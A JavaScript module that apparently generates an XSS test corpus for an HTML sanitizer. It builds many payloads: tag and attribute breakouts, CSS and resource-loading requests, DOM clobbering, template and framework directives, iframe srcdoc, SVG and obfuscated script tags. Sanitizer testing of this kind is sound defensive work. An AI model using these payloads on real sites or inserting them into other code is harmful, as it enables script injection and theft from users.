// Payloads by what they are put into or reach for: attributes and scripts around them, style sheets, requests, names,
// templates, components, frames, SVG, scripts.

import { base64, decimal, each } from "./rules.mjs";

// ── out of where it was put ────────────────────────────────────────────────

const CLOSERS = ['">', "'>", ">", '"/>', "</title>", "</textarea>", "</style>", "</script>", "</xmp>", "</noscript>", "</iframe>", "</template>", "</select>", "</svg>", "</math>", "-->", "--!>", "]]>", "*/", "\\\"`>"];
export const breakouts = [
  ...each(CLOSERS, (closer, { img }) => `${closer}${img}`),
  ...each(['" ', "' ", "` ", '"', "\\\" ", "&quot; "], (quote, { js }) => `${quote}onmouseover=${js} autofocus onfocus=${js} x=${quote}`),
  ...each(["';§//", '";§//', "`;§//", "\\';§//", "-§-", "\u2028§//", "${§}", "*/§/*", "]}'§//"], (text, { js }) => text.replace("§", js)),
  ({ js }) => `</script><script>${js}</script>`,
  ({ js, img }) => `"'><svg onload=${js}><!--'">${img}`,
  ({ js }) => `x'/*"/*\`/*</title></style></textarea></script>--><svg tabindex=1 autofocus onfocus='*/${js}/*' onload="*/${js}//">`,
  ({ js }) => `-->]]>"'*/;</noscript></title></textarea></style></template></script><details/open/ontoggle=${js}>{{1}}`,
  ({ js }) => `\`"'><img src=x onerror=${js}//\${\`/*</script>*/`,
  ({ js }) => `0"autofocus/onfocus=${js}><input autofocus onfocus=${js}><!--`,
  ({ js, url }) => `<a href="javascript:${js}" title='"><img src=${url}>'>x</a>`,
];

// ── style sheets, requests, what is left open ──────────────────────────────

const STYLES = [
  "<style>@import '$';</style>",
  "<style>@import url($);</style>",
  "<style>@IMPORT/**/url('$')</style>",
  '<style>@import url("data:text/css,@import%20url(http:$)")</style>',
  "<style>*{background:url($)}</style>",
  "<style>body{list-style:url($);display:list-item}</style>",
  "<style>body::before{content:url($)}</style>",
  "<style>@font-face{font-family:f;src:url($)}*{font-family:f}</style>x",
  "<style>@namespace x'';*{border-image:url($) 1;border:1px solid}</style>",
  "<style><!--*{background:url($)}--></style>",
  "<svg><style>*{background:url($)}</style></svg>",
  "<p style=background:url($)>x</p>",
  "<p style='background:\\75rl($)'>x</p>",
  "<p style='background:image-set(\"$\" 1x)'>x</p>",
  "<p style='display:list-item;list-style-image:url($)'>x</p>",
  "<p style='mask-image:url($)'>x</p>",
  "<p style='cursor:url($),auto;background:url($)'>x</p>",
  "<p style='--u:url($);background:var(--u)'>x</p>",
  "<p style=\"background:url(&quot;$&quot;)\">x</p>",
  "<link rel=stylesheet href=$>",
  "<link rel=STYLESHEET href=$ media=all>",
];
const OLD_STYLES = [
  "<p style='width:expression(§)'>x</p>",
  "<p style='width:expr/**/ession(§)'>x</p>",
  "<p style='x:\\65xpression(§)'>x</p>",
  "<p style='-moz-binding:url(javascript:§)'>x</p>",
  "<p style='behavior:url(javascript:§)'>x</p>",
  "<style>*{background:url(javascript:§)}</style>",
  "<style>@import 'javascript:§'</style>",
];
export const styles = [
  ...each(STYLES, (text, { url }) => text.replaceAll("$", url)),
  ...each(OLD_STYLES, (text, { js }) => text.replace("§", js)),
];

const ASKS = [
  "<img src=$>",
  "<img src='$?",
  '<img src="$?',
  "<img srcset=$>",
  "<img srcset='x 9x, $ 1x'>",
  "<img src=x srcset='$ 1x'>",
  "<picture><source srcset=$><img></picture>",
  "<input type=image src=$>",
  "<video src=$>",
  "<video poster=$>",
  "<video><source src=$></video>",
  "<audio src=$ autoplay>",
  "<video controls><track default kind=metadata src=$></video>",
  "<iframe src=$></iframe>",
  "<iframe src='$?",
  "<object data=$></object>",
  "<embed src=$>",
  "<frameset><frame src=$></frameset>",
  "<body background=$>",
  "<table background=$><tr><td>x</table>",
  "<table><td background=$>x</table>",
  "<svg><image href=$ width=9 height=9>",
  "<svg><image xlink:href=$ width=9 height=9>",
  "<svg width=9 height=9><filter id=f><feImage href=$ /></filter><rect width=9 height=9 filter=url(#f)>",
  "<svg><script href=$></script>",
  "<script src=$></script>",
  "<script src='$?x",
  "<script type=module src=$></script>",
  "<script type=module>import '$'</script>",
  '<script type=importmap>{"imports":{"x":"$"}}</script><script type=module>import "x"</script>',
  "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"$\"]}]}</script>",
  "<link rel=icon href=$>",
  "<link rel=preload as=image href=$>",
  "<link rel=preload as=fetch crossorigin href=$>",
  "<link rel=modulepreload href=$>",
  "<link rel=prefetch href=$>",
  "<link rel=manifest href=$>",
  "<link rel=dns-prefetch href=$>",
  "<meta http-equiv=refresh content='0;url=$'>",
  "<meta http-equiv=refresh content=\"0;URL='$'\">",
  "<meta http-equiv=REFRESH content=0;$>",
  "<base href=$/><img src=x>",
  "<a href=$>x</a>",
  "<a href='$?",
  "<a href=# ping=$>x</a>",
  "<area href=$>",
  "<form action=$><button>x</button></form>",
  "<form action=$ method=post><input type=submit></form>",
  "<form><button formaction=$>x</button></form>",
  "<form action='$?'><textarea name=t>",
  "<button form=f formaction=$>x</button><form id=f></form>",
  "<isindex action=$>",
  "<bgsound src=$>",
  "<portal src=$></portal>",
  "<applet code=$></applet>",
  "<img lowsrc=$ dynsrc=$>",
  "<html manifest=$>",
  "<ilayer src=$></ilayer>",
  "<svg><use href=$#x>",
  "<xml src=$>",
  "<fencedframe src=$></fencedframe>",
];
export const requests = each(ASKS, (text, { http }) => text.replaceAll("$", http));

// ── names that a page's own script may take for its own ───────────────────

export const clobber = [
  ({ id, http }) => `<a id=global_${id} href=${http}>x</a>`,
  ({ id, http }) => `<a id=global_${id}></a><a id=global_${id} name=url href=${http}>x</a>`,
  ({ id, http }) => `<form id=global_${id}><input name=url value=${http}></form>`,
  ({ id, http }) => `<form name=global_${id} action=${http}></form>`,
  ({ id, http }) => `<img name=global_${id} src=data:, alt=${http}>`,
  ({ id }) => `<embed name=global_${id}>`,
  ({ id }) => `<object id=global_${id}></object>`,
  ({ id }) => `<iframe name=global_${id} srcdoc=x></iframe>`,
  ({ id }) => `<x-y id=global_${id}></x-y>`,
  ({ id }) => `<svg id=global_${id}></svg>`,
];

// ── templates, components, frames, SVG, scripts ────────────────────────────

const TEMPLATES = ["{{§}}", "{{constructor.constructor('§')()}}", "{{{§}}}", "{%§%}", "{%raw%}§", "${§}", "`${§}`", "#{§}", "*{§}", "@{§}", "@(§)", "[[§]]", "[(§)]", "<%= § %>", "<%- § %>", "<? § ?>", "<#§>", "$$\\href{javascript:§}{x}$$", "\\unicode{<img src=x onerror=§>}"];
const DIRECTIVES = ["ng-app ng-init=§", "ng-app ng-on-click=§", "v-on:click=§", "@click=§", "v-html=§", "x-data x-init=§", "hx-on:click=§", "hx-get=javascript:§", "data-bind=click:§", "(click)=§", "on:click={§}", "data-onclick=§", "formaction=javascript:§", "_=§"];
export const templates = [...TEMPLATES, ...DIRECTIVES.map((directive) => `<b ${directive}>x</b>`)].map((text) => ({ js }) => text.replace("§", () => js));

export const components = [
  ({ img }) => `<div><template shadowrootmode=open>${img}</template></div>`,
  ({ img }) => `<div><template shadowrootmode=closed>${img}<slot></template>x</div>`,
  ({ img }) => `<x-y><template shadowrootmode=open shadowrootclonable>${img}</template></x-y>`,
  ({ js }) => `<b is=x-y onclick=${js}>x</b>`,
  ({ js }) => `<x-y onclick=${js}>x</x-y>`,
  ({ js }) => `<slot name=x onclick=${js}>x</slot>`,
  ({ js }) => `<dialog open onclick=${js}>x</dialog>`,
  ({ js }) => `<dialog open><form method=dialog><button onclick=${js}>x`,
  ({ js }) => `<details><summary onclick=${js}>x</summary></details>`,
  ({ js }) => `<details name=d ontoggle=${js}><summary>x</summary></details>`,
  ({ js }) => `<button popovertarget=p popovertargetaction=show>x</button><p id=p popover=manual onbeforetoggle=${js}>x`,
  ({ js }) => `<search onclick=${js}>x</search>`,
  ({ js }) => `<fieldset><legend onclick=${js}>x`,
  ({ img }) => `<template>${img}</template>`,
  ({ img }) => `<template><template>${img}</template></template>`,
  ({ js }) => `<menu type=context><menuitem onclick=${js} label=x>`,
];

const inAttribute = (html) => html.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
export const frames = [
  ({ img }) => `<iframe srcdoc="${inAttribute(img)}"></iframe>`,
  ({ js }) => `<iframe srcdoc='<script>${js}</script>'></iframe>`,
  ({ js }) => `<iframe srcdoc=&lt;script&gt;${js}&lt;/script&gt;></iframe>`,
  ({ js }) => `<iframe srcdoc="&#60;svg onload=${js}&#62;"></iframe>`,
  ({ js }) => `<iframe srcdoc="${decimal(`<svg onload=${js}>`)}"></iframe>`,
  ({ js }) => `<iframe srcdoc="<iframe srcdoc='&lt;svg onload=${js}&gt;'></iframe>"></iframe>`,
  ({ js }) => `<iframe srcdoc="x" src="x" onload="${js}"></iframe>`,
  ({ http }) => `<iframe sandbox=allow-scripts srcdoc="<script>new Image().src='${http}'</script>"></iframe>`,
  ({ http }) => `<iframe sandbox srcdoc="<img src=${http}>"></iframe>`,
  ({ js }) => `<iframe src=about:blank name="${js}" onload=eval(name)></iframe>`,
  ({ js }) => `<svg><foreignObject><iframe srcdoc="<svg onload=${js}>">`,
  ({ js }) => `<noembed></noembed><iframe src="javascript:'<img src=x onerror=${js}>'"></iframe>`,
];

export const svg = [
  ({ js }) => `<svg><script>${js}</script></svg>`,
  ({ js }) => `<svg><script>${decimal(js)}</script></svg>`,
  ({ js }) => `<svg><script><![CDATA[${js}]]></script></svg>`,
  ({ js }) => `<svg><script><!--x-->${js.replace("(", "&lpar;")}</script></svg>`,
  ({ js }) => `<svg><script href="data:text/javascript,${js}"></script></svg>`,
  ({ js }) => `<svg><script xlink:href="data:,${js}"></script></svg>`,
  ({ js }) => `<svg><a href=javascript:${js}><text y=20>x</text></a>`,
  ({ js }) => `<svg><a><animate attributeName=href values=javascript:${js} /><text y=20>x</text></a>`,
  ({ js }) => `<svg><a><set attributeName=href to=javascript:${js} /><text y=20>x</text></a>`,
  ({ js }) => `<svg><a><animate attributeName=xlink:href values=;javascript:${js} begin=0s end=0s fill=freeze /><text y=20>x</text></a>`,
  ({ js }) => `<svg><g onclick=${js}><text y=20>x`,
  ({ js }) => `<svg><foreignObject><div onclick=${js}>x`,
  ({ img }) => `<svg><switch><foreignObject>${img}`,
  ({ js }) => `<svg><discard onbegin=${js}></svg>`,
  ({ js }) => `<svg xmlns:x=http://www.w3.org/1999/xlink><a x:href=# xlink:href=javascript:${js}><text y=20>x`,
  ({ js }) => `<svg><set attributeName=onclick to=${js}><rect onclick=x>`,
  ({ js }) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>#x">`,
  ({ js }) => `<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>${js}</handler>`,
  ({ js }) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
];

export const scripts = [
  ...each(["<script>", "<ScRiPt>", "<script\n>", "<script/x>", "<script\tx=1>", "<script type=module>", "<script async>", "<script defer>", "<script type=text/javascript>", "<script type=''>", "<script language=javascript>", "<script charset=utf-7>", "<script nonce=x>"], (open, { js }) => `${open}${js}</script>`),
  ...each(["</script >", "</script\n>", "</script/x>", "</SCRIPT>", "</script x='>'>"], (close, { js }) => `<script>${js}${close}x`),
  ({ js }) => `<script>/*<!--*/${js}/*-->*/</script>`,
  ({ js }) => `<script><!--\n${js}\n--></script>`,
  ({ js }) => `<script>//<script>\n${js}</script>`,
  ({ js }) => `<script>eval(atob("${base64(js)}"))</script>`,
  ({ js }) => `<script>[]["at"]["constructor"]("${js}")()</script>`,
  ({ id }) => `<script>top["__\\x72an"]\`${id}\`</script>`,
  ({ id }) => `<script>onerror=top.__ran;throw ${id}</script>`,
  ({ js }) => `<script>setTimeout("${js}")</script>`,
  ({ js }) => `<script src="data:text/javascript,${js}"></script>`,
  ({ js }) => `<script src=data:;base64,${base64(js)}></script>`,
  ({ js }) => `<script>import("data:text/javascript,${js}")</script>`,
  ({ js }) => `<script>document.write("<img src=x onerror=${js}>")</script>`,
  ({ js }) => `x<script>${js}</script><script>1</script>y`,
];
